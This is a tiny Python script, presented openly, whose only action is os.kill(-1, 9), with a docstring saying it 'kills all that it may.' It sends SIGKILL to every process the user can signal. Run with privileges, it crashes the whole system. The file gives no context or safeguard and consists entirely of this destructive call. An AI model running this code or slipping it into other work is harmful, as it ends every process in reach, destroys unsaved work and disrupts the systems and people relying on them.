"""Kills all that it may.
"""
import os
os.kill(-1, 9)
